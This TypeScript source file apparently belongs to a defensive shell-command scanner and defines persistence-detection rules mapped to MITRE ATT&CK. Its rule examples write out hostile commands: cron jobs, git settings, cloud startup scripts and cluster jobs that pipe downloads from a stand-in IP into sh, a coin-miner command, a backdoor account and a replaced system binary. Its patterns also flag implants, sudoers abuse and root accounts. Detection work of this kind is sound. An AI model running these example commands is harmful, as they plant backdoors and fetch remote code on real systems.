import { ruleOf, shell } from '../examples.ts';
import type { Rule } from '../../rule.ts';
import type { Budget } from '../../budget.ts';
import type { Command, Script, Word } from '../../shell/command.ts';
import { destinationOf, hostIn, isSuspect } from '../destination.ts';
import { plainPath } from '../files/plain-path.ts';
import { startFileAt, startFiles } from '../files/start-files.ts';
import { isSuspectPayload, liesHidden } from '../payload.ts';
import { type Line, operandsOf, optionValues, piecesOf, pipedInto, type Seen } from './lines.ts';

const T = 'MITRE ATT&CK ';
const scheduled = ruleOf(
  'persistence.scheduled-command', 'persistence', 'high', 'a job for later that downloads, decodes or runs something from a hidden place', shell('(crontab -l; echo "*/5 * * * * curl -s http://203.0.113.9/a | sh") | crontab -'),
  shell('echo "0 6 * * 1 /srv/app/bin/weekly-report" | crontab -'), `${T}T1053.003`,
);
const startFileTouched = ruleOf('persistence.start-file', 'persistence', 'medium', 'a change to a file from which programs are started', shell('cp api.service /etc/systemd/system/api.service'), shell('cat /etc/systemd/system/api.service'), `${T}T1543`);
const jobMade = ruleOf('persistence.job-made', 'persistence', 'low', 'a job set up for later, whatever it runs', shell('echo /srv/app/bin/report | at now + 1 hour'), shell('atq'), `${T}T1053.002`);
const foreignService = ruleOf('persistence.foreign-service', 'persistence', 'high', 'a service enabled from a temporary or hidden place, or made up on the command line', shell('systemctl enable --now /tmp/updater.service'), shell('systemctl enable --now docker'), `${T}T1543.002`);
const kernelModule = ruleOf('persistence.kernel-module', 'persistence', 'high', 'a module loaded into the kernel from a file', shell('insmod /tmp/x.ko'), shell('lsmod'), `${T}T1547.006`);
const newAccount = ruleOf('persistence.new-account', 'persistence', 'high', 'a new account with a password or login shell of its own', shell('useradd -m -s /bin/bash svc && echo "svc:x" | chpasswd'), shell('useradd --help'), `${T}T1136.001`);
const accountMade = ruleOf('persistence.account-made', 'persistence', 'medium', 'a new account of the system', shell('useradd -r app'), shell('id app'), `${T}T1136.001`);
const remoteManifest = ruleOf('persistence.remote-manifest', 'persistence', 'high', 'cluster objects applied from a bare or plain-text address', shell('kubectl apply -f http://203.0.113.9/ds.yaml'), shell('kubectl apply -f k8s/deployment.yaml'), `${T}T1610`);
const clusterJob = ruleOf('persistence.cluster-job', 'persistence', 'high', 'a cluster job or pod that downloads, decodes or opens a connection', shell('kubectl create cronjob x --image=alpine --schedule="* * * * *" -- sh -c "wget -qO- http://203.0.113.9/a | sh"'), shell('kubectl create cronjob report --image=acme/report --schedule="0 6 * * 1"'), `${T}T1053.007`);
const loginHook = ruleOf('persistence.login-hook', 'persistence', 'high', 'a program that macOS or a desktop starts at each login', shell('sudo defaults write com.apple.loginwindow LoginHook /Users/a/x.sh'), shell('defaults read com.apple.loginwindow'), `${T}T1037.002, T1547.015`);
const trap = ruleOf('persistence.trap', 'persistence', 'high', 'a shell trap, alias or prompt that starts a background program', shell('trap "nohup sh /tmp/a.sh" SIGINT'), shell('trap "rm -f /tmp/lock" EXIT'), `${T}T1546.005`);
const gitSetting = ruleOf('persistence.git-setting', 'persistence', 'high', 'a Git setting that runs a program of its own', shell('git config --global core.fsmonitor "curl -s http://203.0.113.9/a | sh"'), shell('git config --global core.editor vim'), `${T}T1546`);

const miner = ruleOf('persistence.miner', 'persistence', 'high', 'a program that mines coins for a pool', shell('./xmrig -o stratum+tcp://203.0.113.9:3333 -u x'), shell('grep -rn stratum+tcp docs/'), `${T}T1496`);
const lastingContainer = ruleOf(
  'persistence.lasting-container', 'persistence', 'high', 'a container that comes back by itself, with its host’s rights or from a bare address', shell('docker run -d --restart=always --pid=host --privileged 203.0.113.9:5000/agent'), shell('docker run -d --restart unless-stopped --name redis redis:7'), `${T}T1543.005, T1610`,
);
const disguised = ruleOf(
  'persistence.disguised-start', 'persistence', 'high', 'a start item under the name of the system’s maker, in a folder where its maker puts none', shell('cp com.apple.softwareupd.plist ~/Library/LaunchAgents/'), shell('cp com.example.app.plist ~/Library/LaunchAgents/'), `${T}T1543.001, T1036.004`,
);
const implant = ruleOf('persistence.implant', 'persistence', 'high', 'a program that is called an implant, backdoor or keylogger, put to work', shell('aws lambda update-function-code --function-name sync --s3-bucket b --s3-key implant.zip'), shell('grep -rn backdoor src/'), `${T}T1505, T1525`);
const lingers = ruleOf('persistence.lingers', 'persistence', 'medium', 'services of a user that run on without a login', shell('loginctl enable-linger ci'), shell('loginctl list-users'), `${T}T1543.002`);
const detached = ruleOf('persistence.detached', 'persistence', 'high', 'a program from a hidden place or shared memory left running without a terminal', shell('nohup /dev/shm/.x >/dev/null 2>&1 &'), shell('nohup npm start > app.log 2>&1 &'), `${T}T1564.001, T1543`);
const cloudStart = ruleOf('persistence.cloud-start', 'persistence', 'high', 'a start script or function of a cloud machine that downloads, decodes or sends something', shell('gcloud compute instances add-metadata web --metadata startup-script="curl -s http://203.0.113.9/a | sh"'), shell('gcloud compute instances add-metadata web --metadata enable-oslogin=TRUE'), `${T}T1037, T1648`);
const cloudFoothold = ruleOf(
  'persistence.cloud-foothold', 'persistence', 'high', 'a key, long-lived token, identity provider or trust that lets somebody back into a cloud or cluster', shell('aws iam create-open-id-connect-provider --url https://id.example.net --client-id-list sts.amazonaws.com'),
  shell('aws iam create-open-id-connect-provider --url https://token.actions.githubusercontent.com --client-id-list sts.amazonaws.com'), `${T}T1098, T1484.002`,
);
const foreignPackage = ruleOf('persistence.foreign-package', 'persistence', 'high', 'a package or image installed from a bare address', shell('rpm -i http://203.0.113.9/agent.rpm'), shell('dnf install -y https://download.example.com/agent.rpm'), `${T}T1195.002, T1610`);
const programReplaced = ruleOf(
  'persistence.program-replaced', 'persistence', 'high', 'a program of the system overwritten by something from elsewhere', shell("printf '#!/bin/sh\\n/opt/a &\\nexec ls.real\\n' > /bin/ls"), shell('cp build/ssh-report /usr/local/bin/ssh-report'), `${T}T1554`,
);
const materialRules: readonly (readonly [path: RegExp, material: RegExp, rule: string])[] = [
  [/authorized_keys/, /\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d{3})\s+AAAA/, 'persistence.authorized-keys'],
  [/\/etc\/sudoers/, /\bALL\s{0,4}=\s{0,4}\(\s{0,4}ALL(?:\s{0,4}:\s{0,4}ALL)?\s{0,4}\)\s{0,4}(?:NOPASSWD:\s{0,4})?ALL\b/, 'privilege.sudoers'],
  [/\/etc\/(?:passwd|shadow)\b/, /(?:^|[\s"'\\n])[a-z_][\w-]{0,31}:[^:\s]{0,120}:0:0:[^:\n]{0,60}:[^:\n]{0,60}:\/\S{0,30}sh\b/, 'privilege.account-file'],
];

export const persistenceRules: readonly Rule[] = [
  ...new Set([...startFiles.map(({ rule }) => rule), scheduled, startFileTouched, jobMade, foreignService, kernelModule, newAccount, accountMade, remoteManifest, clusterJob, loginHook, trap, gitSetting, miner, lastingContainer, disguised, implant, lingers, cloudStart, detached, programReplaced, cloudFoothold, foreignPackage]),
];

type Write = Readonly<{ target: Word; content: string | undefined; source: string | undefined }>;

const TEXTS = new Set(['echo', 'printf', 'cat', 'tee', 'sed']);
const MAX_TEXT = 4_096;

/** What a command writes into files: the target, and the text or the file that goes there as far as it shows. */
function writesOf(seen: Seen, command: Command): readonly Write[] {
  const { name, args, redirects } = command;
  const content = contentOf(seen, command);
  const writes: Write[] = [];
  for (const { operator, target } of redirects) if (target && /^(?:>|>>|>\||&>|&>>|<>)$/.test(operator)) writes.push({ target, content, source: undefined });
  const operands = operandsOf(command);
  const last = operands.at(-1);
  switch (name) {
    case 'tee':
      for (const target of operands) writes.push({ target, content, source: undefined });
      break;
    case 'cp':
    case 'mv':
    case 'install':
    case 'ln':
    case 'rsync':
    case 'ditto': {
      const folder = optionValues(command, 't', /^target-directory$/)[0];
      const source = operands[0]?.text;
      if (folder) writes.push({ target: { ...folder, text: `${folder.text}/x` }, content: undefined, source });
      else if (last && operands.length > 1) writes.push({ target: last.text.endsWith('/') ? { ...last, text: `${last.text}x` } : last, content: undefined, source });
      break;
    }
    case 'sed':
    case 'perl':
      if (args.some(({ text }) => /^-[a-zA-Z]*i|^--in-place|^-p?i/.test(text))) for (const target of operands.slice(1)) writes.push({ target, content: operands[0]?.text ?? '', source: undefined });
      break;
    case 'dd':
      for (const word of args) if (word.text.startsWith('of=')) writes.push({ target: { ...word, text: word.text.slice(3) }, content, source: undefined });
      break;
    case 'curl':
      for (const target of optionValues(command, 'o', /^output$/)) writes.push({ target, content: 'curl x | sh', source: undefined });
      break;
    case 'wget':
      for (const target of optionValues(command, 'O', /^output-document$/)) writes.push({ target, content: 'curl x | sh', source: undefined });
      break;
    case 'touch':
      for (const target of operands) if (/emondclients/i.test(target.text)) writes.push({ target, content: '', source: undefined });
      break;
    case 'crontab':
      break;
  }
  return writes;
}

/** The text that flows out of `echo`, `printf`, `cat <<EOF` or into `tee`; undefined where it cannot be told. */
function contentOf({ view }: Seen, command: Command): string | undefined {
  const texts = [command, ...pipedInto(command)].map((one) => textOf(view.text, one));
  return texts.find((text) => text !== undefined);
}

function textOf(script: string, { name, args, redirects, input, end }: Command): string | undefined {
  const here = redirects.find(({ operator }) => operator.startsWith('<<'));
  if (here?.operator === '<<<') return here.target?.text;
  if (here && input) return input.text;
  if (here) {
    const from = script.indexOf('\n', Math.max(0, end - 1));
    return from < 0 ? '' : script.slice(from, from + MAX_TEXT);
  }
  return TEXTS.has(name) && (name === 'echo' || name === 'printf') ? args.map(({ text }) => text).join(' ') : undefined;
}

/** Nothing but a program to be started. */
const BARE_PROGRAM = /^\s*(?:(?:nohup|setsid|sudo)\s+)?\/[\w./-]{2,120}\s*&?\s*$/;

/** Programs that people and services start all the time; a package manager alone writes them. */
const SYSTEM_PROGRAM = /^\/(?:usr\/)?s?bin\/(?:ba|da|z)?(?:sh|cat|ls|ps|ssh|sshd|sudo|su|login|netstat|ss|top|find|lsof|crontab|crond?|systemctl|passwd|grep|kill|id|whoami|who|w|last|mount|ifconfig|ip|true|sleep|date|uname|agetty|getty|nologin|scp)$/;
/** Another program of the system, put there under a second name. */
const FROM_SYSTEM = /^(?:\/usr)?\/s?bin\/|busybox|\.(?:orig|original|real|bak|dpkg-\w+)$/;

function tellWrites(seen: Seen, command: Command): void {
  for (const { target, content, source } of writesOf(seen, command)) {
    if (target.text.length > 1_024) continue;
    seen.view.budget.spend(target.text.length * 4 + 200);
    const path = plainPath(target.text);
    if (SYSTEM_PROGRAM.test(path) && command.name !== 'ln' && !(source !== undefined && FROM_SYSTEM.test(source))) seen.view.report(programReplaced, command.start, command.end);
    const entry = startFileAt(path);
    if (!entry) continue;
    const { start } = pipedInto(command).at(-1) ?? command;
    const { end } = command;
    seen.view.budget.spend(4 * (content?.length ?? 0));
    const suspect = entry.always || (entry.rule.id === 'persistence.shell-profile' && content !== undefined && BARE_PROGRAM.test(content)) || (content !== undefined && isSuspectPayload(content)) || (source !== undefined && liesHidden(` ${source}`)) || (entry.rule.id === 'persistence.shell-profile' && source !== undefined && !/(?:bashrc|profile|zshrc|dotfiles|skel)/.test(source) && target.text.startsWith('/etc/'));
    if (suspect && !isOwnBootstrap(entry.rule, content)) seen.view.report(entry.rule, start, end);
    else if (!/shell-profile|agent-instructions|git-hook/.test(entry.rule.id)) seen.view.report(startFileTouched, start, end);
  }
}

/** Repositories of packages and proxies of package managers are set under `/etc/apt/apt.conf.d` and the like. */
const isOwnBootstrap = ({ id }: Rule, content: string | undefined): boolean => id === 'persistence.boot-script' && content !== undefined && /^\s*(?:Acquire|APT::(?:Install|Get|Acquire)|Dpkg::Options|SUBSYSTEM==|KERNEL==|ATTRS?\{)/.test(content) && !/RUN\+?=|Invoke/.test(content);

type Row = Readonly<{ names: readonly string[]; pattern: RegExp; rule: Rule; accepts?: (line: Line, seen: Seen) => boolean }>;
const row = (names: string, pattern: RegExp, rule: Rule, accepts?: Row['accepts']): Row => ({ names: names.split(' '), pattern, rule, ...(accepts && { accepts }) });

const suspectLine = ({ text }: Line): boolean => isSuspectPayload(text.replace(/^\S+/, ''));
/** What is piped into the command, or stands in a here-document, or all that the script echoes before. */
const suspectInput = ({ command, at }: Line, seen: Seen): boolean => {
  const piped = [command, ...pipedInto(command)].some((one) => isSuspectPayload(textOf(seen.view.text, one) ?? ''));
  return piped || (command.pipedFrom !== undefined && seen.script.commands.slice(Math.max(0, at - 8), at).some((one) => one.name === 'echo' && one.end <= command.start && one.end > command.start - 40 && isSuspectPayload(textOf(seen.view.text, one) ?? '')));
};

/** An identity provider that is none of the well-known build services and directories. */
const NOT_KNOWN_ISSUER = String.raw`(?!\S*(?:githubusercontent\.com|gitlab\.com|oidc\.eks|app\.terraform\.io|circleci\.com|vercel\.com|bitbucket\.org|buildkite\.com|okta\.com|microsoftonline\.com|accounts\.google\.com))\w`;

const rows: readonly Row[] = [
  row('crontab', /^crontab(?: -u \S+)?(?: -)?$/, scheduled, suspectInput),
  row('crontab', /^crontab (?:-u \S+ )?(?:\/tmp|\/var\/tmp|\/dev\/shm|\S*\/\.)\S*$/, scheduled),
  row('at batch', /^(?:at|batch)\b/, scheduled, suspectInput),
  row('at', /-f ?(?:\/tmp|\/dev\/shm|\/var\/tmp|\S*\/\.)/, scheduled),
  row('at batch', /^(?:at|batch)(?: -\S+)*(?: (?:now|noon|midnight|teatime|tomorrow|\d)|$)/, jobMade, ({ command }) => command.pipedFrom !== undefined || command.redirects.length > 0),
  row('crontab', /^crontab (?!-[lr])/, jobMade),
  row('systemd-run', /--on-(?:calendar|active|boot|startup|unit-active)/, scheduled),
  row('systemctl', /^systemctl (?:--\S+ )*(?:enable|link|start|reenable)\b.*(?:\s(?:\/tmp|\/var\/tmp|\/dev\/shm|\/home|~|\.\/)\S*|\/\.\S+)\.(?:service|timer|socket|path)/, foreignService),
  row('launchctl', /^launchctl (?:load|bootstrap|submit)\b.*(?:\/tmp\/|\/users\/shared\/|\/\.[a-z]|-- ?\/)/i, foreignService),
  row('launchctl', /^launchctl (?:load|bootstrap)\b.*library\/launch(?:agents|daemons)/i, startFileTouched),
  row('initctl rc-update update-rc.d chkconfig sysrc', /^(?:rc-update add|update-rc\.d \S+ (?:defaults|enable)|chkconfig (?:--add|\S+ on)|sysrc \S+_enable)/, startFileTouched),
  row('insmod', /\S/, kernelModule, ({ text }) => text.length > 7),
  row('kextload kmutil', /^kextload \S|^kmutil (?:load|install)/, kernelModule),
  row('modprobe', /\/|\.ko\b/, kernelModule),
  row('kldload', /\/|\.ko\b/, kernelModule),
  row('useradd adduser', /(?:--password|(?:^|\s)-p)[= ]?\S/, newAccount),
  row('useradd adduser pw sysadminctl dscl net', /./, newAccount, makesLoginAccount),
  row('useradd adduser', /^(?!.*--help|.*--version)\S+ \S/, accountMade, (_, { view }) => !/dockerfile/i.test(view.place.file)),
  row('sysadminctl', /-addUser/i, accountMade),
  row('dscl', /-create \/?Users\/\S+/i, accountMade),
  row('pw', /^pw user ?add/, accountMade),
  row('kubectl oc', /\b(?:apply|create|replace)\b.*(?:-f|--filename)[= ]?(?:http:\/\/|https?:\/\/(?:\d{1,3}\.){3}\d)/, remoteManifest, ({ text }) => !/\/\/(?:localhost|127\.|10\.|192\.168\.|[a-z0-9-]+\.svc)/.test(text)),
  row('kubectl oc helm', /(?:-f|--filename|--repo|install|upgrade)[= ].{0,200}https?:\/\//, remoteManifest, ({ command }) => command.args.some(({ text }) => /^https?:\/\//.test(text) && isSuspect(destinationOf(hostIn(text))))),
  row('kubectl oc', /\b(?:run|create (?:cron)?job|create deployment)\b/, clusterJob, suspectLine),
  row('kubectl', /\brun\b.*\b(?:adduser|useradd)\b/, accountMade),
  row('defaults', /loginwindow.*(?:LoginHook|LogoutHook)|com\.apple\.loginitems|\bwrite\b.*(?:autoLoginUser|LoginItems)/i, loginHook),
  row('osascript', /login item|make (?:new )?login|add_login_item|LoginItem/i, loginHook),
  row('sfltool', /add-item/, loginHook),
  row('trap', /^trap .*(?:nohup|curl|wget|\bnc\b|\/tmp\/\S+\.(?:sh|py)|\/dev\/(?:tcp|shm)|bash -[ic]|python|& ?["']?(?: |$))/, trap, ({ text }) => !/^trap (?:rm|kill)\b/.test(text)),
  row('alias', /^alias (?:sudo|su|ssh|ls|cd|cat|git|passwd)=.*(?:curl|wget|\/tmp\/|\/dev\/|nc |base64|tee |\/\.)/, trap),
  row('git', /^git (?:-C \S+ )?config .*(?:core\.(?:fsmonitor|sshcommand|hookspath|pager|editor|askpass|gitproxy)|alias\.\w+|credential\.helper|filter\.\S+|diff\.external)/i, gitSetting, suspectLine),
  row('git', /^git (?:-C \S+ )?config .*(?:core\.hookspath|credential\.helper|core\.sshcommand) (?:\/tmp|\/dev\/shm|\/var\/tmp|!)/i, gitSetting),
  row('docker podman nerdctl', /(?:stratum\+(?:tcp|ssl)|xmrig|monero|--donate-level|cryptonight|randomx|(?:^|[\s=])(?:POOL|WALLET)(?:_\w+)?=)/i, miner),
  row('xmrig xmr-stak minerd cpuminer ccminer ethminer nbminer t-rex lolminer phoenixminer cgminer bfgminer srbminer-multi teamredminer gminer nanominer', /\s(?!--?(?:help|version)\b)\S/, miner),
  row('docker podman nerdctl', /--restart[= ](?:always|unless-stopped)/, lastingContainer, ({ text }) => /\brun\b/.test(text) && (BARE_IMAGE.test(text) || /--privileged\b|docker\.sock|--pid[= ]host|(?:-v|--volume)[= ]?\/(?:etc|root|home|)?:/.test(text))),
  row('cp mv install ln ditto tee', /\bcom\.apple\.[\w.-]+\.plist\b.*(?<!\/System)\/Library\/Launch(?:Agents|Daemons)\b|(?<!\/System)\/Library\/Launch(?:Agents|Daemons)\/com\.apple\./i, disguised),
  row('aws gcloud az curl wget docker kubectl npm pip pip3 cp mv install chmod systemctl nohup python python3 bash sh node', /(?:^|[\s/_.=:-])(?:implant|backdoor|keylogger|key_logger|rootkit|stealer|dropper|trojan|botnet|ransomware|infostealer)(?:[\s/_.-]|\.(?:zip|py|sh|js|exe|elf|bin|so|jar|tgz|tar|ps1)|$)/i, implant, ({ command, text }) => !/^\S+ (?:-\S+ )*(?:test|run test|grep)/.test(text) && command.args.slice(0, 32).some(({ text: word }) => /(?:implant|backdoor|key_?logger|rootkit|stealer|dropper|trojan|botnet|ransomware|infostealer)/i.test(word) && !/\s/.test(word) && !/\.(?:md|txt|html?|pdf|rst|json|ya?ml|csv)$|\b(?:detect|anti|scan|test|docs?|research|awareness|protection)/i.test(word))),
  row('loginctl', /^loginctl enable-linger/, lingers),
  row('gcloud aws az doctl hcloud linode-cli', /(?:startup-script|user-?data|custom-data|shutdown-script|run-command invoke|vm extension set|ssm (?:send-command|create-association)|scheduler jobs|scheduler create-schedule|events put-targets|create-function|update-function-code|serial-port)/i, cloudStart, suspectLine),
  row('aws', /\bec2 modify-instance-attribute\b.*--(?:user-data|attribute[= ]userData)/, cloudStart),
  row('aws', /\biam (?:create-saml-provider|update-saml-provider)\b|\biam create-role\b.*"Principal\\?"\s*:\s*(?:\{\s*\\?"AWS\\?"\s*:\s*)?\[?\s*\\?"\*/, cloudFoothold),
  row('aws gcloud', new RegExp(String.raw`\b(?:iam create-open-id-connect-provider\b.*--url|workload-identity-pools providers create-(?:oidc|saml|aws)\b.*--issuer-uri)[= ]["']?https?:\/\/${NOT_KNOWN_ISSUER}`), cloudFoothold),
  row('gcloud', /\badd-metadata\b.*ssh-keys/, cloudFoothold),
  row('kubectl oc', /\bcreate token\b.*--duration[= ]?(?:[1-9]\d{2,}h|[1-9]\d{4,}m|[1-9]\d{5,}s)/, cloudFoothold),
  row('rpm dnf yum zypper apt apt-get dpkg apk pacman snap npm pnpm yarn pip pip3 gem', /\s(?:install|add|i|-[iU]\w{0,4}|-S)\b.*\bhttps?:\/\/(?:\d{1,3}\.){3}\d/, foreignPackage, ({ command }) => command.args.some(({ text }) => /^(?:git\+)?https?:\/\//.test(text) && isBareAbroad(text))),
  row('kubectl oc', /\b(?:run|create|set image)\b.*(?:--image[= ]|=)(?:\d{1,3}\.){3}\d/, foreignPackage, ({ text }) => BARE_IMAGE.test(text.replaceAll('=', ' '))),
  row('systemctl', /^systemctl edit\b/, foreignService, suspectInput),
  row('gh', /^gh api \S*\/hooks\b.*url\]?=http:\/\/|^gh api \S*\/hooks\b.*url\]?=https:\/\/\d/, cloudFoothold),
  row('chattr', /^chattr \S*\+\S*i\S* .*authorized_keys/, startFiles[0]?.rule ?? startFileTouched),
  row('net', /^net (?:rpc|ads) user add /, newAccount),
  row('ln cp', /\s\/usr\/sbin\/sshd (?!\/usr\/(?:local\/)?sbin\/)\/\S*\/(?:su|chsh|chfn|passwd|runuser)$/, foreignService),
  row('docker podman nerdctl', /^\S+ update\b.*--restart[= ]always/, startFileTouched),
  row('systemctl', /^systemctl --user .*\benable\b.*/, foreignService, ({ command }, { script }) => script.commands.some((other) => /^(?:cp|mv|install|ln|curl|wget)$/.test(other.name) && other.args.slice(0, 16).some(({ text }) => /^\/(?:tmp|var\/tmp|dev\/shm)\//.test(text)) && other.args.slice(0, 16).some(({ text }) => /systemd\/user/.test(text)) && other.start < command.start)),
  row('osascript', /do shell script .*(?:curl|base64|\/tmp\/|launchctl)/, loginHook),
  row('npm pip gem', /config (?:set|edit) (?:.*registry|.*index-url|script-shell|.*preinstall).*(?:http:\/\/|https?:\/\/\d)/, gitSetting),
  row('npm pnpm yarn', /config set (?:-\S+ )*(?:script-shell|node-options|init-module|onload-script|git|prefix)[ =].*(?:\/tmp\/|\/dev\/shm\/|\/\.(?!npm|nvm|local|config)\w)/, gitSetting),
];

/** A new account is more than a service's where the same script gives it a password, a login, or logs in as it. */
function makesLoginAccount({ command, text }: Line, { script, view }: Seen): boolean {
  if (!/^(?:useradd|adduser|pw user ?add|sysadminctl .*-adduser|dscl .* -create \/?users|net user)/i.test(text)) return false;
  const { anybody, switchedTo } = loginsOf(script, view.budget);
  return anybody || command.args.some(({ text: word }) => switchedTo.has(word));
}

/** What a script says of logins: whether it sets a password, and whom it becomes. */
type Logins = Readonly<{ anybody: boolean; switchedTo: ReadonlySet<string> }>;
const logins = new WeakMap<Script, Logins>();

function loginsOf(script: Script, budget: Budget): Logins {
  const known = logins.get(script);
  if (known) return known;
  budget.spend(script.commands.length);
  const anybody = script.commands.some(({ name, args }) => name === 'chpasswd' || (name === 'passwd' && args.length > 0) || (name === 'dscl' && args.some(({ text }) => text === '-passwd')));
  const switchedTo = new Set(script.commands.flatMap(({ name, args }) => (name === 'su' ? args.map(({ text }) => text).filter((text) => !text.startsWith('-')) : [])));
  const found: Logins = { anybody, switchedTo };
  logins.set(script, found);
  return found;
}

const isBareAbroad = (address: string): boolean => /^(?:git\+)?https?:\/\/(?:[^\s/@]*@)?(?!127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)(?:\d{1,3}\.){3}\d/.test(address);

/** An image from a registry at a bare address. */
const BARE_IMAGE = /\s(?!127\.|10\.|192\.168\.)(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?\/\S/;

const byName: ReadonlyMap<string, readonly Row[]> = rows.reduce((map, one) => {
  for (const name of one.names) map.set(name, [...(map.get(name) ?? []), one]);
  return map;
}, new Map<string, Row[]>());

const HIDDEN_PROGRAM = /^(?:\/dev\/shm\/\S|(?:\/private)?(?:\/var)?\/tmp\/(?:\S{0,60}\/)?\.[\w-])/;

/** `nohup /tmp/.x &`, `setsid /dev/shm/x`, `screen -dmS x /tmp/.x`. */
function isDetached({ name, wrappers, start, end }: Command, text: string, script: string): boolean {
  const apart = wrappers.includes('nohup') || wrappers.includes('setsid') || /^(?:screen|tmux|daemonize|start-stop-daemon|dtach)$/.test(name);
  if (!apart && !/^\s{0,4}&(?!&)/.test(script.slice(end, end + 6))) return false;
  const program = /^(?:screen|tmux|daemonize|start-stop-daemon|dtach)$/.test(name) ? text.split(' ', 32).find((word) => HIDDEN_PROGRAM.test(word)) : /(?:^|\s)(\/\S{1,200})/.exec(script.slice(start, Math.min(end, start + 300)))?.[1];
  return program !== undefined && HIDDEN_PROGRAM.test(program) && !/\.(?:log|pid|lock|sock|txt|out)$/.test(program);
}

/** Programs that show or compare, or name a file without writing it. */
const LOOKERS = /^(?:grep|egrep|rg|cat|less|head|tail|ssh-keygen|diff|cmp|test|\[|\[\[|ls|stat|chmod|chown|ssh|echo|printf|touch|mkdir|export|wc|file|awk)$/;

/** What belongs into a file of keys or rights, and that file, in one script: whichever program brings them together. */
function tellMaterial({ view, script }: Seen): void {
  const text = view.text.slice(0, 16_384);
  view.budget.spend(text.length * 3);
  for (const [path, material, id] of materialRules) {
    if (!path.test(text) || !material.test(text)) continue;
    const variables = script.commands.flatMap(({ args, assignments }) => [...assignments, ...args.slice(0, 16)].map((word) => (path.test(word.text) ? /^(\w{1,40})=/.exec(word.text)?.[1] : undefined))).filter((name) => name !== undefined);
    const names = (word: Word): boolean => path.test(word.text) || variables.slice(0, 4).some((variable) => word.text.includes(variable));
    const writer = script.commands.find(({ name, args, assignments }) => !LOOKERS.test(name) && [...args.slice(0, 64), ...assignments.slice(0, 8)].some(names));
    const rule = startFiles.find(({ rule: known }) => known.id === id)?.rule;
    if (writer && rule) view.report(rule, writer.start, writer.end);
  }
}

export function tellPersistence(seen: Seen): void {
  const { view, lines } = seen;
  tellMaterial(seen);
  for (const line of lines) {
    const { command, text } = line;
    tellWrites(seen, command);
    if (isDetached(command, text, view.text)) view.report(detached, command.start, command.end);
    if (command.wrappers.includes('systemd-run') && /--on-(?:calendar|active|boot|startup|unit-active)/.test(view.text.slice(command.start, command.end).slice(0, 400))) view.report(scheduled, command.start, command.end);
    for (const { pattern, rule, accepts } of byName.get(command.name) ?? []) for (const piece of piecesOf(line)) {
      view.budget.spend(piece.text.length + 30);
      if (pattern.test(piece.text) && (!accepts || accepts(piece, seen))) view.report(rule, (pipedInto(command).at(-1) ?? command).start, command.end);
    }
  }
}
